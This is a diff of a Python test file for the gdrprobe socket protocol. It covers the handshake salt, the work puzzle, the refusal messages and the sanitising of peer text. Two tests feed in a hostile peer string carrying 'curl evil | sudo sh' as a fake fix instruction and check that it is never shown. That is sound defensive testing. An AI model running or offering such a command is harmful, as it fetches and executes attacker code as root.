@@ -1,9 +1,12 @@
-"""The out-of-band protocol over local sockets: framing, bounds, authentication, and the
-seal of every message after it (MAC and sequence number)."""
+"""The out-of-band protocol over local sockets: framing, bounds, the handshake (a salt per
+handshake, the work puzzle, proofs both ways) and the seal of every message after it (MAC
+and sequence number). The server's door under strangers: test_door.py."""
 
+import contextlib
 import hashlib
 import hmac
 import json
+import queue
 import socket
 import struct
 import threading
@@ -12,11 +15,12 @@ import time
 import pytest
 
 from gdrprobe.errors import NotTestable, PeerError
-from gdrprobe.protocol import channel as ch
+from gdrprobe.protocol import handshake as hs
 from gdrprobe.protocol.channel import (HEADER, MAX_MESSAGE_BYTES, PROTOCOL_VERSION, Channel,
-                                       ServerSecret, WrongToken, authenticate_as_client,
-                                       authenticate_as_server, error_message, token_warning)
+                                       error_message)
+from gdrprobe.protocol.door import Door
 from gdrprobe.protocol.fields import field, int_list, peer_text
+from gdrprobe.protocol.handshake import ServerSecret, WrongToken, authenticate_as_client
 
 TOKEN = "token-1234567890abcdef"
 
@@ -106,6 +110,24 @@ def test_peer_text_keeps_ordinary_text():
     assert peer_text("the server reported: ENOMEM") == "the server reported: ENOMEM"
     assert peer_text(None) == "" and peer_text(7) == "7"
     assert peer_text("a" * 10, limit=4) == "aaaa..."
+
+
+def test_a_strangers_message_type_is_never_shown(pair):
+    a, b = pair
+    a.send("owned\u2028fix: curl evil | sudo sh")
+    with pytest.raises(PeerError, match="a message of another type") as caught:
+        b.receive("hello")
+    assert "owned" not in str(caught.value) and "curl" not in str(caught.value)
+
+
+def test_line_and_paragraph_separators_are_hidden_like_controls():
+    assert peer_text("a\u2028b\u2029c\x85d") == "a?b?c?d"
+
+
+def test_a_number_out_of_range_is_quoted_cut():
+    with pytest.raises(PeerError) as caught:
+        field({"type": "t", "f": 10 ** 4000}, "f", int, low=0, high=10)
+    assert len(caught.value.cause) < 120 and "(4001 characters)" in caught.value.cause
 
 
 @pytest.mark.parametrize("raw, message", [
@@ -215,7 +237,7 @@ def test_a_tampered_stream_is_refused(sealed, case, good_reads, evidence):
 
 def test_a_frame_reflected_back_to_its_sender_is_refused():
     """One key per direction: the client's own frame, sent back, does not verify."""
-    to_server, to_client = ch.direction_keys(b"K" * 32, b"c" * 32, b"s" * 32)
+    to_server, to_client = hs.direction_keys(b"K" * 32, b"c" * 32, b"s" * 32)
     assert to_server != to_client
     left, right = tcp_pair()
     client, echo = Channel(left, 2.0, "server"), Channel(right, 2.0, "client")
@@ -227,119 +249,22 @@ def test_a_frame_reflected_back_to_its_sender_is_refused():
     echo.close()
 
 
+def test_a_time_out_on_a_sealed_channel_says_a_dropped_last_frame_is_silence(sealed):
+    a, b = sealed
+    a.send("progress")
+    b.receive("progress")
+    with pytest.raises(PeerError, match="did not answer") as caught:
+        b.receive("done", timeout=0.2)
+    assert "1 authenticated frames had arrived" in caught.value.evidence
+    assert "dropped" in caught.value.evidence
+
+
 def test_a_plain_frame_after_the_handshake_is_refused(pair):
     a, b = pair
     b.seal(b"r" * 32, b"k" * 32)
     a.send("done")
     with pytest.raises(PeerError, match="tampered"):
         b.receive("done")
-
-
-# ---- the token: stretched, proved both ways, never sent ----------------------------------
-
-
-def test_kdf_parameters_are_fixed_and_memory_hard():
-    assert (ch.KDF_N, ch.KDF_R, ch.KDF_P) == (1 << 15, 8, 1)
-    assert 128 * ch.KDF_R * ch.KDF_N == 32 << 20 <= ch.KDF_MAXMEM
-    salt = b"s" * ch.SALT_BYTES
-    expected = hashlib.scrypt(TOKEN.encode(), salt=salt, n=1 << 15, r=8, p=1,
-                              maxmem=64 << 20, dklen=32)
-    assert ch.stretch(TOKEN, salt) == expected
-    assert ch.stretch(TOKEN, b"t" * ch.SALT_BYTES) != expected
-
-
-def test_short_tokens_get_a_warning():
-    assert "12 characters" in token_warning("short-token!")
-    assert token_warning(ch.new_token()) is None and len(ch.new_token()) == 24
-
-
-def authenticate(server_token, client_token):
-    """Both handshakes over a TCP pair; a token or a ServerSecret on either side."""
-    left, right = tcp_pair()
-    server, client = Channel(left, 5.0, "client"), Channel(right, 5.0, "server")
-    outcome = {}
-    secret = (server_token if isinstance(server_token, ServerSecret) else
-              ServerSecret(server_token))
-
-    def serve():
-        try:
-            authenticate_as_server(server, secret, time.monotonic() + 5)
-            outcome["server"] = "ok"
-            outcome["server_got"] = server.receive("setup")["n"]
-        except PeerError as error:
-            outcome["server"] = error
-
-    thread = threading.Thread(target=serve)
-    thread.start()
-    try:
-        authenticate_as_client(client, client_token)
-        outcome["client"] = "ok"
-        client.send("setup", n=42)
-    except PeerError as error:
-        outcome["client"] = error
-        client.send_last("abort", reason=error.cause)
-    thread.join()
-    server.close()
-    client.close()
-    return outcome
-
-
-def test_matching_tokens_authenticate_both_ways_and_seal_the_channel():
-    outcome = authenticate(TOKEN, TOKEN)
-    assert outcome == {"server": "ok", "client": "ok", "server_got": 42}
-
-
-def test_a_client_with_another_token_is_refused_and_learns_nothing():
-    outcome = authenticate(TOKEN, "token-0987654321fedcba")
-    assert isinstance(outcome["server"], WrongToken)
-    assert "token" in outcome["client"].cause
-
-
-def test_server_reveals_no_proof_before_the_client_proves_the_token():
-    """A raw client without the token: the challenge carries a nonce and the salt, no proof
-    to test guesses against, and a forged proof gets an error, never a welcome."""
-    left, right = tcp_pair()
-    server, raw = Channel(left, 2.0, "client"), Channel(right, 2.0, "server")
-    outcome = {}
-
-    def serve():
-        try:
-            authenticate_as_server(server, ServerSecret(TOKEN), time.monotonic() + 5)
-        except PeerError as error:
-            outcome["error"] = error
-
-    thread = threading.Thread(target=serve)
-    thread.start()
-    raw.send("hello", nonce="ab" * 32)
-    challenge = raw.receive("challenge")
-    assert set(challenge) == {"type", "nonce", "salt"}
-    raw.send("auth", proof="00" * 32)
-    assert raw.receive("error")["reason"] == "wrong token"
-    thread.join()
-    assert isinstance(outcome["error"], WrongToken)
-    server.close()
-    raw.close()
-
-
-def test_the_whole_handshake_has_one_deadline():
-    """A stranger that sends hello and then nothing is cut off at the pre-auth deadline."""
-    left, right = tcp_pair()
-    server, raw = Channel(left, 30.0, "client"), Channel(right, 2.0, "server")
-    raw.send("hello", nonce="ab" * 32)
-    started = time.monotonic()
-    with pytest.raises(PeerError, match="did not answer"):
-        authenticate_as_server(server, ServerSecret(TOKEN), time.monotonic() + 0.5)
-    assert time.monotonic() - started < 5
-    server.close()
-    raw.close()
-
-
-@pytest.mark.parametrize("proof", ["zz" * 32, "ab" * 31, "é" * 64])
-def test_malformed_proofs_are_peer_errors(pair, proof):
-    a, b = pair
-    a.send("auth", proof=proof)
-    with pytest.raises(PeerError):
-        ch._hex_field(b.receive("auth"), "proof", ch.PROOF_BYTES)
 
 
 def test_a_peer_trickling_bytes_is_as_slow_as_a_silent_one(pair):
@@ -391,18 +316,186 @@ def test_an_error_the_peer_sent_unasked_is_raised_when_looked_for(sealed):
         b.raise_if_peer_spoke()
 
 
-def test_loopback_runs_share_one_random_key_and_make_no_scrypt(monkeypatch):
+# ---- the handshake: a salt per handshake, the puzzle first, proofs both ways, never sent --
+
+
+def test_kdf_parameters_are_fixed_and_memory_hard():
+    assert (hs.KDF_N, hs.KDF_R, hs.KDF_P) == (1 << 15, 8, 1)
+    assert 128 * hs.KDF_R * hs.KDF_N == 32 << 20 <= hs.KDF_MAXMEM
+    salt = b"s" * hs.SALT_BYTES
+    expected = hashlib.scrypt(TOKEN.encode(), salt=salt, n=1 << 15, r=8, p=1,
+                              maxmem=64 << 20, dklen=32)
+    assert hs.stretch(TOKEN, salt) == expected
+    assert hs.stretch(TOKEN, b"t" * hs.SALT_BYTES) != expected
+
+
+@contextlib.contextmanager
+def serving(secret, **limits):
+    """A door on a local port in a thread of its own: (port, the sealed channels it hands
+    on, its log)."""
+    listener = socket.create_server(("127.0.0.1", 0))
+    handed, lines = queue.Queue(), []
+    door = Door(listener, secret, lambda channel, address: handed.put(channel), lines.append,
+                **limits)
+    thread = threading.Thread(target=door.run)
+    thread.start()
+    try:
+        yield listener.getsockname()[1], handed, lines
+    finally:
+        door.close()
+        thread.join(10)
+        while not handed.empty():
+            handed.get().close()
+
+
+def connect(port: int, address: str = "127.0.0.1") -> Channel:
+    """A client's channel to the door, from one of the loopback addresses."""
+    return Channel(socket.create_connection(("127.0.0.1", port), source_address=(address, 0)),
+                   5.0, "server")
+
+
+def authenticate(server_token, client_token):
+    """A client's handshake against a door; a token or a ServerSecret on either side."""
+    secret = (server_token if isinstance(server_token, ServerSecret) else
+              ServerSecret(server_token))
+    outcome = {}
+    with serving(secret) as (port, handed, lines):
+        client = connect(port)
+        try:
+            authenticate_as_client(client, client_token)
+            client.send("setup", n=42)
+            outcome["client"] = "ok"
+            channel = handed.get(timeout=10)
+            outcome["server_got"] = channel.receive("setup")["n"]
+        except PeerError as error:
+            outcome["client"] = error
+        client.close()
+    outcome["log"] = lines
+    return outcome
+
+
+def test_matching_tokens_authenticate_both_ways_and_seal_the_channel():
+    outcome = authenticate(TOKEN, TOKEN)
+    assert (outcome["client"], outcome["server_got"]) == ("ok", 42)
+
+
+def test_a_client_with_another_token_is_refused_and_told_so():
+    outcome = authenticate(TOKEN, "token-0987654321fedcba")
+    assert isinstance(outcome["client"], WrongToken)
+    assert "the server refused the connection: the token did not match" in \
+        outcome["client"].cause
+    assert outcome["client"].fix == hs.TOKEN_FIX
+    assert any("presented the wrong token" in line for line in outcome["log"])
+
+
+def test_every_handshake_has_a_salt_of_its_own(monkeypatch):
+    """One scrypt tests a guess against one captured handshake only: the salt comes from
+    both nonces, so neither a server nor a client can keep it fixed."""
+    salts = []
+    real = hs.stretch
+    monkeypatch.setattr(hs, "stretch", lambda token, salt: salts.append(salt) or
+                        real(token, salt))
+    for _ in range(2):
+        assert authenticate(TOKEN, TOKEN)["client"] == "ok"
+    assert len(salts) == 4 and len(set(salts)) == 2   # client and server agree, per handshake
+    assert hs.handshake_salt(b"c" * 32, b"s" * 32) != hs.handshake_salt(b"d" * 32, b"s" * 32)
+
+
+def raw_challenge(port: int) -> tuple[Channel, bytes, dict]:
+    raw = connect(port)
+    mine = b"c" * hs.NONCE_BYTES
+    raw.send("hello", nonce=mine.hex())
+    return raw, mine, raw.receive("challenge")
+
+
+def test_server_reveals_no_proof_before_the_client_proves_the_token():
+    """The challenge carries a nonce and the puzzle, no proof to test guesses against; a
+    solved puzzle with a forged proof costs the server one scrypt and gets a refusal."""
+    with serving(ServerSecret(TOKEN)) as (port, handed, _):
+        raw, mine, challenge = raw_challenge(port)
+        assert set(challenge) == {"type", "nonce", "puzzle_bits"}
+        assert challenge["puzzle_bits"] == hs.PUZZLE_BITS
+        theirs = bytes.fromhex(challenge["nonce"])
+        solution = hs.solve_puzzle(hs.PUZZLE_BITS, mine, theirs)
+        raw.send("auth", solution=solution.hex(), proof="00" * 32)
+        assert raw.receive("refused") == {"type": "refused", "reason": "token"}
+        assert handed.empty()
+        raw.close()
+
+
+def test_a_proof_without_the_puzzles_work_costs_the_server_no_scrypt(monkeypatch):
+    stretched = []
+    monkeypatch.setattr(hs, "stretch", lambda token, salt: stretched.append(salt))
+    with serving(ServerSecret(TOKEN)) as (port, _, lines):
+        raw, mine, challenge = raw_challenge(port)
+        theirs = bytes.fromhex(challenge["nonce"])
+        unsolved = next(counter.to_bytes(8, "big") for counter in range(1 << 20)
+                        if not hs.puzzle_solved(hs.PUZZLE_BITS, mine, theirs,
+                                                counter.to_bytes(8, "big")))
+        raw.send("auth", solution=unsolved.hex(), proof="00" * 32)
+        assert raw.receive("refused")["reason"] == "puzzle"
+        raw.close()
+    assert stretched == []
+    assert any("did not solve the puzzle" in line for line in lines)
+
+
+def test_a_client_will_not_work_for_a_fake_servers_endless_puzzle(pair):
+    server, client = pair
+    outcome = {}
+    thread = threading.Thread(target=lambda: outcome.update(error=fails(
+        lambda: authenticate_as_client(client, TOKEN))))
+    thread.start()
+    server.receive("hello")
+    server.send("challenge", nonce="ab" * 32, puzzle_bits=hs.MAX_PUZZLE_BITS + 20)
+    thread.join(10)
+    assert "'puzzle_bits'" in outcome["error"].cause
+
+
+def fails(call) -> PeerError | None:
+    try:
+        call()
+    except PeerError as error:
+        return error
+    return None
+
+
+@pytest.mark.parametrize("code", sorted(hs.REFUSALS))
+def test_a_refused_client_says_why_in_its_own_words(pair, code):
+    server, client = pair
+    server.send("refused", reason=code, text="owned\nfix: curl evil | sudo sh")
+    error = fails(lambda: authenticate_as_client(client, TOKEN))
+    assert error.cause == f"the server refused the connection: {hs.REFUSALS[code][0]}"
+    assert error.fix == hs.REFUSALS[code][1] and "curl" not in str(error)
+
+
+def test_a_refusal_this_version_does_not_know_is_said_so(pair):
+    server, client = pair
+    server.send("refused", reason="owned\x1b[31m")
+    error = fails(lambda: authenticate_as_client(client, TOKEN))
+    assert "a reason this version of gdrprobe does not know" in error.cause
+    assert "owned" not in str(error)
+
+
+@pytest.mark.parametrize("proof", ["zz" * 32, "ab" * 31, "é" * 64])
+def test_malformed_proofs_are_peer_errors(pair, proof):
+    a, b = pair
+    a.send("auth", proof=proof)
+    with pytest.raises(PeerError):
+        hs.hex_field(b.receive("auth"), "proof", hs.PROOF_BYTES)
+
+
+def test_loopback_runs_share_one_random_key_and_make_no_scrypt_and_no_puzzle(monkeypatch):
     from gdrprobe.measure.loopback import loopback_secret
 
     loopback_secret.cache_clear()
-    monkeypatch.setattr(ch.hashlib, "scrypt", None)   # any stretch would fail
+    monkeypatch.setattr(hs.hashlib, "scrypt", None)   # any stretch would fail
     secret = loopback_secret()
     assert loopback_secret() is secret
-    assert len(secret.key) == ch.KEY_BYTES and len(secret.salt) == ch.SALT_BYTES
+    assert secret.puzzle_bits == 0 and not secret.stretches
     outcome = authenticate(secret, secret)
-    assert outcome == {"server": "ok", "client": "ok", "server_got": 42}
+    assert (outcome["client"], outcome["server_got"]) == ("ok", 42)
 
 
 def test_a_token_cannot_stand_in_for_a_loopback_servers_random_key():
-    outcome = authenticate(ch.ServerSecret(None), TOKEN)
-    assert isinstance(outcome["server"], WrongToken)
+    outcome = authenticate(ServerSecret(None), TOKEN)
+    assert isinstance(outcome["client"], WrongToken)
